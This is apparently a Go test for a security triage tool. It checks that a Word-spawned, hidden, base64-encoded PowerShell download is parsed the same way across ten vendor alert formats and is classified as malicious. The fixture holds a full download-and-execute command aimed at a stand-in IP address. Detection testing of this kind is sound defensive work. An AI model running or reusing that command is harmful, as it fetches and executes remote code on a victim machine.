package triage

import (
	"strings"
	"testing"
)

// One intrusion step (a Word document starting PowerShell with an encoded
// download) reported in each vendor's documented shape must read as the
// same process facts and get the same verdict: the evidence may not hang on
// one vendor's field names.
func TestOneProcessChainReadsTheSameAcrossVendorShapes(t *testing.T) {
	const enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAnACkA"
	const cmd = `powershell.exe -NoP -W Hidden -EncodedCommand ` + enc
	const word = `\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\lena\\Downloads\\Invoice_0419.docm\"`
	shapes := map[string]string{
		"elastic ecs": `{"kibana.alert.rule.name":"Suspicious MS Office Child Process","host":{"name":"WS-114"},"user":{"name":"lena"},
			"process":{"name":"powershell.exe","executable":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","command_line":"` + cmd + `",
			"parent":{"name":"WINWORD.EXE","executable":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","command_line":"` + word + `"}}}`,
		"sysmon": `{"EventID":1,"Computer":"WS-114","User":"CORP\\lena","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"` + cmd + `",
			"ParentImage":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","ParentCommandLine":"` + word + `"}`,
		"splunk cim": `{"search_name":"Endpoint - Office Application Spawning PowerShell - Rule","result":{"dest":"WS-114","user":"lena",
			"process":"` + cmd + `","process_name":"powershell.exe","parent_process":"` + word + `","parent_process_name":"WINWORD.EXE"}}`,
		"carbon black cloud": `{"type":"CB_ANALYTICS","device_name":"WS-114","process_name":"powershell.exe","process_cmdline":"` + cmd + `",
			"parent_name":"winword.exe","parent_cmdline":"` + word + `","childproc_cmdline":"conhost.exe 0xffffffff -ForceV1","process_username":["CORP\\lena"]}`,
		"falcon alerts": `{"composite_id":"x:ind:1","device":{"hostname":"WS-114"},"user_name":"lena","filename":"powershell.exe","cmdline":"` + cmd + `",
			"parent_details":{"filename":"WINWORD.EXE","cmdline":"` + word + `","filepath":"\\Device\\HarddiskVolume3\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}}`,
		"graph evidence": `{"title":"Suspicious process launched by Office","serviceSource":"microsoftDefenderForEndpoint","detectionSource":"microsoftDefenderForEndpoint","category":"Execution",
			"evidence":[{"@odata.type":"#microsoft.graph.security.processEvidence","processCommandLine":"` + cmd + `","imageFile":{"fileName":"powershell.exe","filePath":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0"},
			"parentProcessImageFile":{"fileName":"WINWORD.EXE","filePath":"C:\\Program Files\\Microsoft Office\\root\\Office16"},"userAccount":{"accountName":"lena"}}]}`,
		"defender hunting": `{"DeviceName":"ws-114","AccountName":"lena","FileName":"powershell.exe","ProcessCommandLine":"` + cmd + `",
			"InitiatingProcessFileName":"WINWORD.EXE","InitiatingProcessCommandLine":"` + word + `","InitiatingProcessParentFileName":"explorer.exe"}`,
		"sentinelone deep visibility": `{"agentDetectionInfo":{"name":"WS-114"},"src.process.name":"powershell.exe","src.process.cmdline":"` + cmd + `",
			"src.process.parent.name":"WINWORD.EXE","src.process.parent.cmdline":"` + word + `","src.process.user":"CORP\\lena"}`,
		"cortex xdr": `{"host_name":"WS-114","user_name":"CORP\\lena","action_process_image_name":"powershell.exe","action_process_image_command_line":"` + cmd + `",
			"actor_process_image_name":"WINWORD.EXE","actor_process_command_line":"` + word + `","causality_actor_process_image_name":"WINWORD.EXE"}`,
		"trellix hx": `{"hostname":"WS-114","event_values":{"processEvent/process":"powershell.exe","processEvent/processCmdLine":"` + cmd + `",
			"processEvent/parentProcess":"WINWORD.EXE","processEvent/parentProcessPath":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","processEvent/username":"CORP\\lena"}}`,
	}
	for name, payload := range shapes {
		t.Run(name, func(t *testing.T) {
			raw := mustJSON(t, payload)
			inc := Incident{IncidentType: "alert", Severity: "high", RawData: raw}
			f := normalize(inc, ExtractIndicators(raw))
			e := f.Endpoint
			if e.Process != "powershell.exe" || e.Parent != "winword.exe" || !strings.Contains(e.CommandLine, "-encodedcommand") {
				t.Errorf("process %q parent %q command %q", e.Process, e.Parent, e.CommandLine)
			}
			if !e.OfficeParent || !e.Encoded || e.Behaviour.Hostile == "" {
				t.Errorf("office parent %v encoded %v hostile %q", e.OfficeParent, e.Encoded, e.Behaviour.Hostile)
			}
			if a := analyze(t, inc); a.Verdict.Classification != ClassMalicious {
				t.Errorf("classification %s: %s", a.Verdict.Classification, a.Verdict.Reasoning)
			}
		})
	}
}
